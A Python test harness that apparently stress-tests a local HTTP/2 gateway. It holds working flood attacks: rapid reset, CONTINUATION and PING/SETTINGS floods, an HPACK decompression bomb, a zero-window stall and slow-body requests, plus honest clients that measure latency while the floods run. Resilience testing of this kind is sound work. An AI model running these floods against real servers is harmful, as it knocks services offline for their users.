#!/usr/bin/env python3
"""Clients of TLS and HTTP/2 for edge.py, each a process of its own so that none waits for another's interpreter:

    floods.py '{"role": "attack" | "honest" | "handshakes" | "hold" | "wait", ...}'

The result is one line of JSON. Frames are made by hand and mostly before they are needed; nothing here decodes HPACK. It must not
know which gateway it talks to."""
import json, os, select, socket, ssl, struct, sys, threading, time
from typing import Callable, NamedTuple

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, _, RST, SETTINGS, _, PING, GOAWAY, WINDOW, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS = 1, 1, 4
CODES = ["NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR", "SETTINGS_TIMEOUT", "STREAM_CLOSED", "FRAME_SIZE_ERROR",
         "REFUSED_STREAM", "CANCEL", "COMPRESSION_ERROR", "CONNECT_ERROR", "ENHANCE_YOUR_CALM"]
GONE = (OSError, ssl.SSLError)  # that a gateway closes is a result


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def string(text):
    """A string of HPACK, not compressed."""
    if len(text) < 127:
        return bytes([len(text)]) + text
    rest, out = len(text) - 127, bytearray([127])
    while rest >= 128:
        out.append(rest & 127 | 128)
        rest >>= 7
    return bytes(out) + bytes([rest]) + text


def block(path, token, method=b"GET", more=()):
    """A field block that leaves the dynamic table alone, so that any number of streams can send it."""
    pairs = [(b":method", method), (b":scheme", b"https"), (b":path", path), (b":authority", b"localhost"), (b"private-token", token), *more]
    return b"".join(b"\0" + string(name) + string(value) for name, value in pairs)


# ---- connections -----------------------------------------------------------------------------------------------------

def context(alpn=("h2",), version=None):
    made = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    made.check_hostname, made.verify_mode = False, ssl.CERT_NONE
    made.set_alpn_protocols(list(alpn))
    if version:
        made.minimum_version = made.maximum_version = version
    return made


def connect(port, made, session=None):
    plain = socket.create_connection(("127.0.0.1", port), 10)
    try:
        # What waits here when the gateway cuts a connection was sent for nothing.
        plain.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 32768)
        plain.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        return made.wrap_socket(plain, server_hostname="localhost", session=session)
    except BaseException:
        plain.close()
        raise


class Connection:
    """HTTP/2 after the exchange of settings. `settings`: the payload of the client's own."""
    CONTEXT = context()

    def __init__(self, port, settings=b""):
        self.socket, self.buffer, self.sent = connect(port, self.CONTEXT), b"", 0
        try:
            if self.socket.selected_alpn_protocol() != "h2":
                raise OSError("HTTP/2 was not chosen")
            self.socket.sendall(PREFACE + frame(SETTINGS, 0, 0, settings) + frame(WINDOW, 0, 0, struct.pack(">I", 1 << 30)))
            while not any(kind == SETTINGS and not flags & ACK for kind, flags, _, _ in self.frames(self.socket.recv(65536))):
                pass
            self.socket.sendall(frame(SETTINGS, ACK, 0))
            self.socket.setblocking(False)
        except BaseException:
            self.socket.close()
            raise

    def frames(self, data):
        """The frames that end in what was read."""
        if not data:
            raise ConnectionError("closed")
        self.buffer += data
        found, at = [], 0
        while len(self.buffer) - at >= 9:
            length = int.from_bytes(self.buffer[at:at + 3], "big")
            if len(self.buffer) - at < 9 + length:
                break
            kind, flags, stream = self.buffer[at + 3], self.buffer[at + 4], int.from_bytes(self.buffer[at + 5:at + 9], "big")
            found.append((kind, flags, stream, self.buffer[at + 9:at + 9 + length]))
            at += 9 + length
        self.buffer = self.buffer[at:]
        return found

    def read(self):
        """What is there; None if nothing is."""
        try:
            return self.socket.recv(65536)
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
            return None

    def ready(self, seconds, write=False):
        if not self.socket.pending():
            poll = select.poll()
            poll.register(self.socket, select.POLLIN | (select.POLLOUT if write else 0))
            poll.poll(max(0, seconds) * 1000)

    def write(self, data, until, reads=True):
        """All of it, reading what comes meanwhile unless the attack is not to read. False: the time was over first."""
        view = memoryview(data)
        while view:
            try:
                count = self.socket.send(view)
                self.sent, view = self.sent + count, view[count:]
            except (ssl.SSLWantWriteError, ssl.SSLWantReadError):
                if time.monotonic() > until:
                    return False
                poll = select.poll()
                poll.register(self.socket, select.POLLOUT | (select.POLLIN if reads else 0))
                poll.poll(50)
            if reads:
                self.drain()
        return True

    def drain(self):
        while (data := self.read()) is not None:
            if not data:
                raise ConnectionError("closed")


# ---- attacks ---------------------------------------------------------------------------------------------------------

class Attack(NamedTuple):
    text: str
    unit: str  # what is counted
    opening: Callable  # of a token: the bytes that begin it
    chunk: Callable | None = None  # of a number and a token: bytes that can follow each other without end
    per_chunk: int = 100  # units in each
    settings: bytes = b""
    reads: bool = True
    pace: float = 0  # seconds between two chunks


PATH = b"/api/v3/projects?per_page=20"
# With a length, so that the backend waits for the rest.
POST = (b"POST", [(b"content-type", b"application/octet-stream"), (b"content-length", b"1000")])


def repeated(data):
    return lambda number, token: data


def resets(number, token):
    head = block(PATH, token)
    return b"".join(frame(HEADERS, END_HEADERS | END_STREAM, stream, head) + frame(RST, 0, stream, b"\0\0\0\x08")
                    for stream in range(3 + 200 * number, 203 + 200 * number, 2))


def bombs(number, token):
    """Each frame stands for 32 MB of fields: one of 4,000 bytes in the table, named 8,000 times."""
    head = block(PATH, token) + b"\xbe" * 8000
    return b"".join(frame(HEADERS, END_HEADERS | END_STREAM, stream, head) for stream in range(3 + 4 * number, 7 + 4 * number, 2))


def posts(token):
    return b"".join(frame(HEADERS, END_HEADERS, stream, block(PATH, token, *POST)) for stream in range(1, 201, 2))


ATTACKS = {
    "reset": Attack("rapid reset: a request and its RST_STREAM", "resets", lambda token: b"", resets),
    "continuation": Attack("CONTINUATION without content and without end", "CONTINUATIONs",
                           lambda token: frame(HEADERS, END_STREAM, 1, block(PATH, token)), repeated(frame(CONTINUATION, 0, 1) * 1000), 1000),
    "ping": Attack("PING, answers read", "PINGs", lambda token: b"", repeated(frame(PING, 0, 0, b"pingpong") * 500), 500),
    "ping_unread": Attack("PING, answers not read", "PINGs", lambda token: b"", repeated(frame(PING, 0, 0, b"pingpong") * 500), 500, reads=False),
    "settings": Attack("SETTINGS, answers read", "SETTINGS", lambda token: b"", repeated(frame(SETTINGS, 0, 0, b"\0\x03\0\0\0\x64") * 500), 500),
    "settings_unread": Attack("SETTINGS, answers not read", "SETTINGS", lambda token: b"",
                              repeated(frame(SETTINGS, 0, 0, b"\0\x03\0\0\0\x64") * 500), 500, reads=False),
    "empty": Attack("DATA without content", "DATAs", lambda token: frame(HEADERS, END_HEADERS, 1, block(PATH, token, *POST)),
                    repeated(frame(DATA, 0, 1) * 1000), 1000),
    "zero": Attack("a window of 0 for 100 answers of 1 MiB", "streams",
                   lambda token: b"".join(frame(HEADERS, END_HEADERS | END_STREAM, stream, block(b"/api/v3/bytes/1048576", token)) for stream in range(1, 201, 2)),
                   settings=b"\0\x04\0\0\0\0"),
    "bomb": Attack("HPACK: heads of 32 MB in 8 KB", "heads",
                   lambda token: frame(HEADERS, END_HEADERS | END_STREAM, 1, block(PATH, token) + b"\x40" + string(b"x-bomb") + string(b"b" * 4000)), bombs, 2),
    "slow": Attack("100 bodies, a byte a second each", "bytes", posts,
                   repeated(b"".join(frame(DATA, 0, stream, b"x") for stream in range(1, 201, 2))), 100, pace=1),
}


def attack(job):
    """Connections that flood until the time is over, and come back when they are cut."""
    kind, token, until, lock = ATTACKS[job["attack"]], job["token"].encode(), time.monotonic() + job["seconds"], threading.Lock()
    totals = {"units": 0, "connections": 0, "cuts": 0, "failed": 0}
    cache = {}

    def chunk(number):
        if not kind.chunk:
            return b""
        if number > 400:  # not kept for ever
            return kind.chunk(number, token)
        if number not in cache:
            cache[number] = kind.chunk(number, token)
        return cache[number]

    def one():
        while time.monotonic() < until:
            try:
                c = Connection(job["port"], kind.settings)
            except GONE:
                with lock:
                    totals["failed"] += 1
                time.sleep(0.02)
                continue
            number, cut = 0, False
            try:
                opening = kind.opening(token)
                c.write(opening, until, kind.reads)
                while time.monotonic() < until:
                    if kind.chunk:
                        c.write(chunk(number), until, kind.reads)
                        number += 1
                    pause = time.monotonic() + (kind.pace if kind.chunk else 60)
                    while kind.pace + (not kind.chunk) and (left := min(pause, until) - time.monotonic()) > 0:
                        c.ready(left)
                        c.drain()
            except GONE:
                cut = True
            c.socket.close()
            with lock:
                totals["connections"] += 1
                totals["cuts"] += cut
                # What is in the sockets' buffers counts as sent.
                totals["units"] += (100 if not kind.chunk else max(0, c.sent - len(opening)) * kind.per_chunk // len(chunk(0)))

    threads = [threading.Thread(target=one, daemon=True) for _ in range(job["connections"])]
    for t in threads:
        t.start()
    for t in threads:
        t.join(job["seconds"] + 15)
    return totals


def probe(job):
    """How many units a connection takes, sent few at a time with a look for an answer in between. At most so many."""
    kind, token = ATTACKS[job["attack"]], job["token"].encode()
    if not kind.chunk or kind.pace:
        return {"cut": None, "code": None, "sent": 0}
    size, sent, code = len(kind.chunk(0, token)) // kind.per_chunk, 0, None
    step = max(1, min(10, kind.per_chunk))
    until = time.monotonic() + job["seconds"]
    try:
        c = Connection(job["port"], kind.settings)
    except GONE:
        return {"cut": 0, "code": "no connection", "sent": 0}
    try:
        c.write(kind.opening(token), until, False)
        number, data = 0, b""
        while sent < job["most"] and time.monotonic() < until:
            if len(data) < size * step:
                data += kind.chunk(number, token)
                number += 1
            # Frames of a unit are equally long for every number below 2^31.
            c.write(data[:size * step], until, False)
            data, sent = data[size * step:], sent + step
            c.ready(0.001)
            while (got := c.read()) is not None:
                for what, _, _, payload in c.frames(got):
                    if what == GOAWAY:
                        code = int.from_bytes(payload[4:8], "big")
                        if code:
                            raise ConnectionError("GOAWAY")
    except GONE:
        c.socket.close()
        return {"cut": sent, "code": "closed" if code is None else CODES[code] if code < len(CODES) else str(code), "sent": sent}
    c.socket.close()
    return {"cut": None, "code": None, "sent": sent}


# ---- everybody else --------------------------------------------------------------------------------------------------

def honest(job):
    """Requests at a fixed rate over one connection; latency counts from the time a request was due. A gateway may end a
    connection with GOAWAY, as long as it serves what is open."""
    request, latencies, failed = block(PATH, job["token"].encode()), [], 0
    begun, gap, number = time.monotonic(), 1 / job["rate"], 0
    end, current, leaving = begun + job["seconds"], None, []
    while True:
        now = time.monotonic()
        if number * gap >= job["seconds"] and not any(c.open for c in [*leaving, current] if c) or now > end + 5:
            break
        while begun + number * gap <= now and number * gap < job["seconds"]:
            due, number = begun + number * gap, number + 1
            try:
                if current is None:
                    current = Connection(job["port"])
                    current.open, current.stream = {}, 1
                current.open[current.stream] = due
                current.write(frame(HEADERS, END_HEADERS | END_STREAM, current.stream, request), time.monotonic() + 5, False)
                current.stream += 2
            except GONE:
                failed += 1 + (max(0, len(current.open) - 1) if current else 0)
                current = None
        waiting = [c for c in [*leaving, current] if c]
        due = begun + number * gap if number * gap < job["seconds"] else end + 5
        if not any(c.socket.pending() for c in waiting):
            poll = select.poll()
            for c in waiting:
                poll.register(c.socket, select.POLLIN)
            poll.poll(max(0, min(due, end + 5) - time.monotonic()) * 1000)
        for c in waiting:
            try:
                while (data := c.read()) is not None:
                    at = time.monotonic()
                    for kind, flags, stream, payload in c.frames(data):
                        if kind == GOAWAY and c is current:
                            leaving.append(c)
                            current = None
                        # :status 200 is one byte, behind a change of the table's size if there is one.
                        if kind == HEADERS and stream in c.open and b"\x88" not in payload[:4] or kind == RST and stream in c.open:
                            failed += 1
                            del c.open[stream]
                        elif kind in (HEADERS, DATA) and flags & END_STREAM and stream in c.open:
                            latencies.append(at - c.open.pop(stream))
            except GONE:
                failed += len(c.open)
                c.socket.close()
                leaving = [other for other in leaving if other is not c]
                current = None if current is c else current
    failed += sum(len(c.open) for c in [*leaving, current] if c)
    latencies.sort()
    at = lambda share: round(1000 * latencies[min(len(latencies) - 1, int(share * len(latencies)))], 1) if latencies else None
    return {"asked": number, "answered": len(latencies), "failed": failed, "p50": at(0.5), "p99": at(0.99), "max": at(1)}


VERSIONS = {"1.3": ssl.TLSVersion.TLSv1_3, "1.2": ssl.TLSVersion.TLSv1_2}


def handshakes(job):
    """Connections with a handshake each and nothing else, ended by both sides."""
    made, session, count, resumed, cipher = context(("http/1.1",), VERSIONS[job["version"]]), None, 0, 0, None
    if job["resumed"]:
        first = connect(job["port"], made)
        first.sendall(b"GET /api/v3/projects HTTP/1.1\r\nHost: localhost\r\n\r\n")
        first.recv(65536)
        session = first.session
        first.close()
    until = time.monotonic() + job["seconds"]
    while time.monotonic() < until:
        s = connect(job["port"], made, session)
        count, resumed, cipher = count + 1, resumed + s.session_reused, s.cipher()[0]
        try:
            # Waits until the gateway has closed as well: it has then done its whole part.
            s.unwrap().close()
        except GONE:
            s.close()
    return {"count": count, "resumed": resumed, "cipher": cipher}


def hold(job):
    """Connections that have had an answer each; held until a line comes on standard input."""
    made, held = context(("http/1.1",)), []
    head = b"GET /api/v3/projects?per_page=20 HTTP/1.1\r\nHost: localhost\r\nPRIVATE-TOKEN: " + job["token"].encode() + b"\r\n\r\n"
    for _ in range(job["count"]):
        s = connect(job["port"], made) if job["tls"] else socket.create_connection(("127.0.0.1", job["port"]), 10)
        s.sendall(head)
        if not s.recv(65536).startswith(b"HTTP/1.1 200"):
            return {"fatal": "a known token was refused"}
        held.append(s)
    print(json.dumps({"held": len(held)}), flush=True)
    sys.stdin.readline()
    lost = 0
    for s in held:
        s.setblocking(False)
        try:
            lost += not s.recv(65536)
        except (BlockingIOError, ssl.SSLWantReadError):
            pass
        except GONE:
            lost += 1
    return {"lost": lost}


def wait(job):
    """Requests for something that does not come, `streams` on each connection; held until a line comes on standard input."""
    held, head = [], block(b"/api/v3/hang", job["token"].encode())
    for _ in range(job["connections"]):
        c = Connection(job["port"])
        c.write(b"".join(frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * n, head) for n in range(job["streams"])), time.monotonic() + 10)
        held.append(c)
    print(json.dumps({"held": len(held)}), flush=True)
    sys.stdin.readline()
    return {"lost": 0}


if __name__ == "__main__":
    order = json.loads(sys.argv[1])
    os.nice(order.get("nice", 0))
    print(json.dumps({"attack": attack, "probe": probe, "honest": honest, "handshakes": handshakes, "hold": hold, "wait": wait}[order["role"]](order)), flush=True)
    os._exit(0)
